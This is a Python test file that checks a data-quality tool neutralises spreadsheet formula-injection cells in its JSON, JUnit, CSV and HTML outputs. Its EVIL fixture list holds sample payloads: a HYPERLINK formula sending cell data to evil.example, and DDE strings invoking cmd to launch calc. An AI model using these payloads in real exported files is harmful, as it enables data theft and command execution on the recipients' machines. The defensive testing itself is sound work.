"""Formula injection: delivered cells starting with `=`, `+`, `-`, `@` are kept as text in the warehouse (see
tests/loaders/test_bad_inputs.py) and neutralised wherever they leave it as failed-row samples — JSON and
JUnit output, the stored samples the console and the report read, the console's tables (which Streamlit
exports as CSV) and the report HTML. Signed numbers stay numbers."""

from __future__ import annotations

import csv
import html as htmllib
import io
import json
import re
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from checks.masking import neutralise_formula
from monitor.console_db import dispose_engines
from tests.conftest import make_table
from warehouse.engine import create_engine
from warehouse.migrate import migrate

from .conftest import cli

APP = str(Path(__file__).resolve().parents[2] / "dashboard" / "app.py")
EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)", "\t=1+1", "=1+1"]
SUITE = """\
dataset: probe
stage: raw
keys: [account_id]
checks:
  - {id: probe.note_plain, type: pattern, column: note, regex: '^[a-z ]+$'}
  - {id: probe.amount_positive, type: range, column: amount, min: 0}
"""


def _cell_is_formula(cell: str) -> bool:
    return bool(cell) and cell[0] in "=+-@\t\r" and not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+A1", "'+A1"), ("-A1", "'-A1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("-3.5", "-3.5"), ("+1", "+1"), ("plain", "plain"), ("", ""), (None, None), ("a=b", "a=b")])
def test_neutralise_formula(value: str | None, expected: str | None) -> None:
    assert neutralise_formula(value) == expected


def test_formula_cells_are_neutralised_in_every_export(tmp_path: Path) -> None:
    url = f"duckdb:///{tmp_path / 'w.duckdb'}"
    engine = create_engine(url)
    migrate(engine)
    make_table(engine, "probe", {"account_id": "text", "batch_id": "int", "note": "text", "amount": "float"},
               [(f"@A{i}" if i % 2 else f"=A{i}", 1, v, -1.5 - i) for i, v in enumerate(EVIL)])
    engine.dispose()
    suite = tmp_path / "probe.yml"
    suite.write_text(SUITE, encoding="utf-8")
    as_json = cli("check", "--suite", str(suite), "--batch", "1", "--warehouse", url, "--format", "json",
                  "--no-store")
    junit = cli("check", "--suite", str(suite), "--batch", "1", "--warehouse", url, "--format", "junit",
                "--no-store")
    stored = cli("check", "--suite", str(suite), "--batch", "1", "--warehouse", url)
    assert {as_json.code, junit.code, stored.code} == {1}, as_json.text
    samples = [s for r in json.loads(as_json.out)["results"] for s in r["samples"]]
    assert len(samples) == 2 * len(EVIL)
    cells = [c for s in samples for c in (s["key"], s["value"])]
    assert not [c for c in cells if _cell_is_formula(c)], cells
    assert "'=HYPERLINK(" in as_json.out and "-1.5" in as_json.out  # neutralised text; a number stays a number
    assert "<failure" in junit.out and not re.search(r'="[=+@-]', junit.out)  # no attribute starts with a formula

    # the console's tables: what Streamlit's "download as CSV" would write
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state["warehouse_url"] = url
    at.query_params.update({"check": "probe.note_plain"})
    at.run()
    at.switch_page("app_pages/check_detail.py").run()
    assert not at.exception, [e.value for e in at.exception]
    exported = [row for df in at.dataframe for row in csv.reader(io.StringIO(df.value.to_csv(index=False)))]
    shown = "\n".join(",".join(r) for r in exported)
    assert "HYPERLINK" in shown  # the samples are on the page
    assert not [c for row in exported for c in row if _cell_is_formula(c)], shown
    dispose_engines()

    report = tmp_path / "r.html"
    run = cli("report", "--from", "2026-01-01", "--to", "2026-12-31", "--out", str(report), "--warehouse", url)
    assert run.code == 0, run.text
    html = report.read_text(encoding="utf-8")
    text = htmllib.unescape(html)
    for value in EVIL:  # the report shows no samples today; if it ever does, only neutralised ones
        assert all(text[i - 1] == "'" for i in (m.start() for m in re.finditer(re.escape(value), text))), value
